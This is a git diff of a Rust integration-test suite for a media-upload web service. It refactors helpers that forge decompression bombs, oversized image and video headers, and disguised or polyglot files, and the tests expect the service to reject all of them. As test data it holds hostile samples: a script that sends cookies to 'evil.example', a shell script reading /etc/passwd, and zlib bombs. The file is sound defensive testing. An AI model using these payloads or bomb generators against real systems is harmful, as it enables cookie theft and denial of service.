@@ -24,6 +24,7 @@ use actix_web::http::header::ContentDisposition;
 use awc::http::Method;
 use image::GenericImageView;
 use microcat::config::Settings;
+use microcat::domain::user::Role;
 use serde_json::Value;
 
 use crate::fixtures;
@@ -167,26 +168,51 @@ fn flipped(bytes: &[u8], seed: u64, every: usize) -> (Vec<u8>, usize) {
 fn bombs() -> Vec<Case> {
     let films = films();
     let mp4 = fixtures::read(&films.mp4);
-    let zeros = zlib_of_zeros(200 * 1024 * 1024);
+    let zeros = fixtures::zlib_of_zeros(200 * 1024 * 1024);
     let ztxt = [&b"Comment\0\0"[..], &zeros[..]].concat();
     let iccp = [&b"icc\0\0"[..], &zeros[..]].concat();
     vec![
         case("png claiming 100000x100000", "bomb.png", fixtures::png_claiming(100_000, 100_000), Expect::NotReady),
-        case("jpeg claiming 65535x65535", "bomb.jpg", jpeg_claiming(65_535, 65_535), Expect::NotReady),
-        case("gif claiming a 65535x65535 screen", "bomb.gif", gif_claiming(65_535, 65_535), Expect::NotReady),
-        case("lossless webp claiming 16384x16384", "bomb.webp", webp_claiming_largest(), Expect::NotReady),
-        case("webp canvas claiming 16777216x16777216", "canvas.webp", webp_canvas_claiming(1 << 24), Expect::NotReady),
-        case("png with 200 MB of zeros in zTXt", "ztxt.png", png_with_chunk(b"zTXt", &ztxt), Expect::RejectedOrFailed),
-        case("png with 200 MB of zeros in iCCP", "iccp.png", png_with_chunk(b"iCCP", &iccp), Expect::RejectedOrFailed),
-        case("png of 25 megapixels in 470 KB", "idat.png", png_of_zeros(5000, 5000), Expect::RejectedOrFailed),
-        case("mp4 claiming 65535x65535 frames", "huge.mp4", mp4_claiming_frame(&mp4), Expect::RejectedOrFailed),
+        case("jpeg claiming 65535x65535", "bomb.jpg", fixtures::jpeg_claiming(65_535, 65_535), Expect::NotReady),
+        case("gif claiming a 65535x65535 screen", "bomb.gif", fixtures::gif_claiming(65_535, 65_535), Expect::NotReady),
+        case("lossless webp claiming 16384x16384", "bomb.webp", fixtures::webp_claiming_largest(), Expect::NotReady),
+        case(
+            "webp canvas claiming 16777216x16777216",
+            "canvas.webp",
+            fixtures::webp_canvas_claiming(1 << 24),
+            Expect::NotReady,
+        ),
+        case(
+            "png with 200 MB of zeros in zTXt",
+            "ztxt.png",
+            fixtures::png_with_chunk(b"zTXt", &ztxt),
+            Expect::RejectedOrFailed,
+        ),
+        case(
+            "png with 200 MB of zeros in iCCP",
+            "iccp.png",
+            fixtures::png_with_chunk(b"iCCP", &iccp),
+            Expect::RejectedOrFailed,
+        ),
+        case(
+            "png of 25 megapixels in 470 KB",
+            "idat.png",
+            fixtures::png_of_zeros(5000, 5000),
+            Expect::RejectedOrFailed,
+        ),
+        case(
+            "mp4 claiming 65535x65535 frames",
+            "huge.mp4",
+            fixtures::mp4_claiming_frame(&mp4),
+            Expect::RejectedOrFailed,
+        ),
         case(
             "raw-video mov claiming 65535x65535 frames",
             "huge.mov",
-            mp4_claiming_frame(&fixtures::read(&films.raw_mov)),
+            fixtures::mp4_claiming_frame(&fixtures::read(&films.raw_mov)),
             Expect::NotReady,
         ),
-        case("mp4 claiming 10 hours", "ten-hours.mp4", mp4_claiming_duration(&mp4, 36_000), Expect::NotReady),
+        case("mp4 claiming 10 hours", "ten-hours.mp4", fixtures::mp4_claiming_duration(&mp4, 36_000), Expect::NotReady),
     ]
 }
 
@@ -260,7 +286,7 @@ fn disguised() -> Vec<Case> {
         case("javascript named .png", "app.png", b"alert(document.domain);//".to_vec(), Expect::Rejected),
         case("elf executable named .mp4", "true.mp4", elf, Expect::Rejected),
         case("windows executable named .jpg", "setup.jpg", exe, Expect::Rejected),
-        case("zip archive named .webp", "archive.webp", zip_with("a.txt", b"hello"), Expect::Rejected),
+        case("zip archive named .webp", "archive.webp", fixtures::zip_with("a.txt", b"hello"), Expect::Rejected),
         case("pdf named .jpg", "scan.jpg", pdf.to_vec(), Expect::Rejected),
         case("shell script named .mp4", "run.mp4", b"#!/bin/sh\ncat /etc/passwd\n".to_vec(), Expect::Rejected),
         case("wav audio named .mp3", "voice.mp3", wav.to_vec(), Expect::Rejected),
@@ -278,8 +304,8 @@ fn disguised() -> Vec<Case> {
 /// only as the sniffed type with `nosniff`, and the payload never reaches a derivative.
 fn polyglots() -> Vec<Case> {
     let mp4 = fixtures::read(&films().mp4);
-    let photo = jpeg(48, 32);
-    let jar = zip_with("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n");
+    let photo = fixtures::jpeg(48, 32);
+    let jar = fixtures::zip_with("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n");
     let page = b"<html><script>document.location='http://evil.example/?'+document.cookie</script></html>";
     vec![
         case("jpeg with a zip appended", "photo.jpg", [&photo[..], &jar[..]].concat(), Expect::RejectedOrFailed),
@@ -315,7 +341,7 @@ fn polyglots() -> Vec<Case> {
 }
 
 // ---------------------------------------------------------------------------------------------
-// Byte tools: fixtures, checksums, DEFLATE of zeros, PNG chunks, ISO media boxes, ZIP
+// Films of every container (the forged files are in `fixtures`)
 // ---------------------------------------------------------------------------------------------
 
 /// Tiny films in every accepted container, made once per run by Debian's ffmpeg: 2 s of
@@ -382,288 +408,6 @@ fn films() -> &'static Films {
     })
 }
 
-/// A JPEG of the test card.
-fn jpeg(width: u32, height: u32) -> Vec<u8> {
-    let mut bytes = Vec::new();
-    fixtures::card(width, height)
-        .write_to(&mut std::io::Cursor::new(&mut bytes), image::ImageFormat::Jpeg)
-        .expect("encode jpeg");
-    bytes
-}
-
-/// A small JPEG whose frame header (SOF) claims `width`×`height`.
-fn jpeg_claiming(width: u16, height: u16) -> Vec<u8> {
-    let mut bytes = jpeg(16, 16);
-    let mut at = 2;
-    while at + 9 < bytes.len() {
-        let marker = bytes[at + 1];
-        let length = usize::from(u16::from_be_bytes([bytes[at + 2], bytes[at + 3]]));
-        if (0xC0..=0xC3).contains(&marker) {
-            // FF Cx, length, precision, then height and width.
-            bytes[at + 5..at + 7].copy_from_slice(&height.to_be_bytes());
-            bytes[at + 7..at + 9].copy_from_slice(&width.to_be_bytes());
-            return bytes;
-        }
-        at += 2 + length;
-    }
-    panic!("the jpeg encoder wrote no frame header");
-}
-
-/// The animated GIF with its logical screen claiming `width`×`height`.
-fn gif_claiming(width: u16, height: u16) -> Vec<u8> {
-    let mut bytes = fixtures::animated_gif();
-    bytes[6..8].copy_from_slice(&width.to_le_bytes());
-    bytes[8..10].copy_from_slice(&height.to_le_bytes());
-    bytes
-}
-
-/// A lossless WebP whose VP8L header claims the largest size it can: 16384×16384.
-fn webp_claiming_largest() -> Vec<u8> {
-    let mut bytes = fixtures::webp(16, 16);
-    let chunk = bytes.windows(4).position(|window| window == b"VP8L").expect("image writes lossless webp");
-    // Chunk type, size, signature 0x2F, then 14 bits of width-1 and 14 of height-1.
-    let bits = chunk + 9;
-    bytes[bits..bits + 3].fill(0xFF);
-    bytes[bits + 3] |= 0x0F;
-    bytes
-}
-
-/// An extended WebP whose VP8X canvas claims `edge`×`edge`, around a 16×16 image.
-fn webp_canvas_claiming(edge: u32) -> Vec<u8> {
-    let inner = fixtures::webp(16, 16);
-    let mut canvas = vec![0u8; 4];
-    canvas.extend_from_slice(&(edge - 1).to_le_bytes()[..3]);
-    canvas.extend_from_slice(&(edge - 1).to_le_bytes()[..3]);
-    let body = [&b"WEBPVP8X\x0a\0\0\0"[..], &canvas[..], &inner[12..]].concat();
-    [&b"RIFF"[..], &(body.len() as u32).to_le_bytes()[..], &body[..]].concat()
-}
-
-fn crc32(bytes: &[u8]) -> u32 {
-    static TABLE: OnceLock<[u32; 256]> = OnceLock::new();
-    let table = TABLE.get_or_init(|| {
-        std::array::from_fn(|index| {
-            (0..8).fold(index as u32, |crc, _| if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 })
-        })
-    });
-    !bytes.iter().fold(0xFFFF_FFFF_u32, |crc, byte| table[((crc ^ u32::from(*byte)) & 0xFF) as usize] ^ (crc >> 8))
-}
-
-/// A PNG chunk: length, type, data, CRC of type and data.
-fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
-    let mut chunk = (data.len() as u32).to_be_bytes().to_vec();
-    chunk.extend_from_slice(kind);
-    chunk.extend_from_slice(data);
-    let crc = crc32(&chunk[4..]);
-    chunk.extend_from_slice(&crc.to_be_bytes());
-    chunk
-}
-
-/// A small valid PNG with one more chunk right after its header.
-fn png_with_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
-    let plain = fixtures::png(16, 16);
-    // The signature, then IHDR: length, type, 13 bytes of data and the CRC.
-    let after_header = 8 + 25;
-    [&plain[..after_header], &png_chunk(kind, data)[..], &plain[after_header..]].concat()
-}
-
-/// A black 8-bit RGB PNG whose pixel data is a DEFLATE bomb: tiny on disk, `width`×`height`×3
-/// bytes once inflated.
-fn png_of_zeros(width: u32, height: u32) -> Vec<u8> {
-    let mut header = width.to_be_bytes().to_vec();
-    header.extend_from_slice(&height.to_be_bytes());
-    // 8 bits, RGB, deflate, no filter, no interlace.
-    header.extend_from_slice(&[8, 2, 0, 0, 0]);
-    // Each row is a filter byte (0, none) and then black pixels: all zeros.
-    let raw = height as usize * (1 + 3 * width as usize);
-    [
-        &b"\x89PNG\r\n\x1a\n"[..],
-        &png_chunk(b"IHDR", &header)[..],
-        &png_chunk(b"IDAT", &zlib_of_zeros(raw))[..],
-        &png_chunk(b"IEND", &[])[..],
-    ]
-    .concat()
-}
-
-/// An LSB-first bit writer, the order DEFLATE packs its stream in.
-struct BitWriter {
-    bytes: Vec<u8>,
-    pending: u64,
-    used: u32,
-}
-
-impl BitWriter {
-    fn new() -> Self {
-        Self { bytes: Vec::new(), pending: 0, used: 0 }
-    }
-
-    /// Appends the low `count` bits of `value`, least significant first.
-    fn bits(&mut self, value: u32, count: u32) {
-        self.pending |= u64::from(value) << self.used;
-        self.used += count;
-        while self.used >= 8 {
-            self.bytes.push(self.pending as u8);
-            self.pending >>= 8;
-            self.used -= 8;
-        }
-    }
-
-    /// Appends a Huffman code, which DEFLATE stores most significant bit first.
-    fn code(&mut self, (code, length): (u32, u32)) {
-        self.bits(code.reverse_bits() >> (32 - length), length);
-    }
-
-    fn finish(mut self) -> Vec<u8> {
-        if self.used > 0 {
-            self.bytes.push(self.pending as u8);
-        }
-        self.bytes
-    }
-}
-
-/// A DEFLATE stream of `count` zero bytes in one fixed-Huffman block: a literal zero, then
-/// copies of 258 bytes from 1 back (13 bits for 258 bytes, about 160:1), then the rest as
-/// literals. Written by hand because no compressor is among the crate's dependencies.
-fn deflate_zeros(count: usize) -> Vec<u8> {
-    const LITERAL_ZERO: (u32, u32) = (0x30, 8);
-    const LENGTH_258: (u32, u32) = (0b1100_0101, 8);
-    const DISTANCE_1: (u32, u32) = (0, 5);
-    const END_OF_BLOCK: (u32, u32) = (0, 7);
-    let mut out = BitWriter::new();
-    out.bits(1, 1); // the final block
-    out.bits(1, 2); // with the fixed Huffman codes
-    let mut left = count;
-    if left > 0 {
-        out.code(LITERAL_ZERO);
-        left -= 1;
-    }
-    while left >= 258 {
-        out.code(LENGTH_258);
-        out.code(DISTANCE_1);
-        left -= 258;
-    }
-    for _ in 0..left {
-        out.code(LITERAL_ZERO);
-    }
-    out.code(END_OF_BLOCK);
-    out.finish()
-}
-
-/// `count` zero bytes as a zlib stream (the format of PNG's IDAT, zTXt and iCCP).
-fn zlib_of_zeros(count: usize) -> Vec<u8> {
-    // Adler-32 of zeros: its sum stays 1 and its sum of sums grows by 1 per byte.
-    let adler = (((count % 65_521) as u32) << 16) | 1;
-    [&[0x78, 0x01][..], &deflate_zeros(count)[..], &adler.to_be_bytes()[..]].concat()
-}
-
-fn be32(bytes: &[u8], at: usize) -> u32 {
-    u32::from_be_bytes([bytes[at], bytes[at + 1], bytes[at + 2], bytes[at + 3]])
-}
-
-/// Offsets and sizes of the ISO media boxes at `path` (e.g. moov/trak/tkhd).
-fn find_boxes(bytes: &[u8], path: &[&[u8; 4]]) -> Vec<(usize, usize)> {
-    let mut found = Vec::new();
-    walk_boxes(bytes, 0, bytes.len(), path, &mut found);
-    found
-}
-
-fn walk_boxes(bytes: &[u8], start: usize, end: usize, path: &[&[u8; 4]], found: &mut Vec<(usize, usize)>) {
-    let mut at = start;
-    while at + 8 <= end {
-        let declared = be32(bytes, at) as usize;
-        let size = if declared == 0 { end - at } else { declared };
-        if size < 8 || at + size > end {
-            return;
-        }
-        let kind = &bytes[at + 4..at + 8];
-        if kind == path[0].as_slice() {
-            if path.len() == 1 {
-                found.push((at, size));
-            } else {
-                // stsd holds a version, flags and an entry count before its entries.
-                let header = if kind == b"stsd" { 16 } else { 8 };
-                walk_boxes(bytes, at + header, at + size, &path[1..], found);
-            }
-        }
-        at += size;
-    }
-}
-
-/// Sample entries of the video tracks our fixtures have.
-const VIDEO_ENTRIES: [&[u8; 4]; 3] = [b"avc1", b"raw ", b"mp4v"];
-
-/// The film with its track header and video sample entry claiming 65535×65535 frames.
-fn mp4_claiming_frame(film: &[u8]) -> Vec<u8> {
-    let mut bytes = film.to_vec();
-    for (at, size) in find_boxes(film, &[b"moov", b"trak", b"tkhd"]) {
-        // Width and height close the track header, as 16.16 fixed point; audio has zeros.
-        let end = at + size;
-        if be32(film, end - 8) != 0 {
-            bytes[end - 8..end].copy_from_slice(&[0xFF, 0xFF, 0, 0, 0xFF, 0xFF, 0, 0]);
-        }
-    }
-    for (at, _) in find_boxes(film, &[b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stsd"]) {
-        let entry = at + 16;
-        if VIDEO_ENTRIES.iter().any(|kind| film[entry + 4..entry + 8] == kind[..]) {
-            // A visual sample entry: 24 bytes of reserved and predefined fields, then
-            // 16-bit width and height.
-            bytes[entry + 32..entry + 36].fill(0xFF);
-        }
-    }
-    assert_ne!(bytes, film, "the film has a video track to patch");
-    bytes
-}
-
-/// The film with its movie, track and media headers claiming `seconds`.
-fn mp4_claiming_duration(film: &[u8], seconds: u32) -> Vec<u8> {
-    let mut bytes = film.to_vec();
-    let mut movie_timescale = 1000;
-    // Version 0 headers: version and flags, creation and modification times, then the
-    // timescale and the duration.
-    for path in [&[b"moov", b"mvhd"][..], &[b"moov", b"trak", b"mdia", b"mdhd"][..]] {
-        for (at, _) in find_boxes(film, path) {
-            if film[at + 8] != 0 {
-                continue;
-            }
-            let timescale = be32(film, at + 20);
-            if path.len() == 2 {
-                movie_timescale = timescale;
-            }
-            bytes[at + 24..at + 28].copy_from_slice(&timescale.saturating_mul(seconds).to_be_bytes());
-        }
-    }
-    for (at, _) in find_boxes(film, &[b"moov", b"trak", b"tkhd"]) {
-        if film[at + 8] == 0 {
-            // Track durations are in the movie's timescale, after the track id and a reserved word.
-            bytes[at + 28..at + 32].copy_from_slice(&movie_timescale.saturating_mul(seconds).to_be_bytes());
-        }
-    }
-    assert_ne!(bytes, film, "the film has headers to patch");
-    bytes
-}
-
-/// A stored (uncompressed) ZIP archive of one file, the shape of a jar.
-fn zip_with(name: &str, content: &[u8]) -> Vec<u8> {
-    let crc = crc32(content).to_le_bytes();
-    let size = (content.len() as u32).to_le_bytes();
-    let name_length = (name.len() as u16).to_le_bytes();
-    // Signature, version 2.0, no flags, stored, no time or date.
-    let mut local = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0".to_vec();
-    for field in [&crc[..], &size[..], &size[..], &name_length[..], &[0, 0][..], name.as_bytes(), content] {
-        local.extend_from_slice(field);
-    }
-    // Signature, made by and needing 2.0, no flags, stored, no time or date.
-    let mut central = b"PK\x01\x02\x14\0\x14\0\0\0\0\0\0\0\0\0".to_vec();
-    // Then no extra field, comment, disk, attributes; the local header is at offset 0.
-    for field in [&crc[..], &size[..], &size[..], &name_length[..], &[0; 12][..], &[0; 4][..], name.as_bytes()] {
-        central.extend_from_slice(field);
-    }
-    let mut end = b"PK\x05\x06\0\0\0\0\x01\0\x01\0".to_vec();
-    end.extend_from_slice(&(central.len() as u32).to_le_bytes());
-    end.extend_from_slice(&(local.len() as u32).to_le_bytes());
-    end.extend_from_slice(&[0, 0]);
-    [local, central, end].concat()
-}
-
 // ---------------------------------------------------------------------------------------------
 // Running media cases
 // ---------------------------------------------------------------------------------------------
@@ -677,7 +421,7 @@ fn hostile_media_settings(settings: &mut Settings) {
 }
 
 async fn film_work(app: &TestApp) -> (Session, String) {
-    let author = app.user_with_roles("author", &["contributor"]).await;
+    let author = app.user_with_roles("author", &[Role::Contributor]).await;
     let work = app.create_work(&author, work_json("micro_film", "反诈宣传片")).await;
     (author, work["id"].as_str().expect("work id").to_owned())
 }
@@ -1010,7 +754,7 @@ fn assert_nothing_written_outside(app: &TestApp) {
 async fn hostile_filenames_are_kept_only_as_sanitised_metadata_and_served_in_a_well_formed_disposition() {
     let app = TestApp::spawn().await;
     let (author, work) = film_work(&app).await;
-    let photo = jpeg(32, 24);
+    let photo = fixtures::jpeg(32, 24);
     let escape_target = std::env::temp_dir().join("evil.jpg");
     let existed_before = escape_target.exists();
     let cases = filenames();
@@ -1706,7 +1450,7 @@ async fn run_api_group(app: &TestApp, group: &str, cases: &[ApiCase]) -> usize {
 #[actix_web::test]
 async fn hostile_json_headers_and_query_strings_get_a_4xx_with_a_stable_code_and_never_a_5xx() {
     let app = TestApp::spawn().await;
-    let author = app.user_with_roles("author", &["contributor"]).await;
+    let author = app.user_with_roles("author", &[Role::Contributor]).await;
     let work = app.create_work(&author, work_json("weibo_post", "既有作品")).await;
     let target = Target { token: author.token.clone(), work: work["id"].as_str().expect("work id").to_owned() };
     let mut tried = 0;
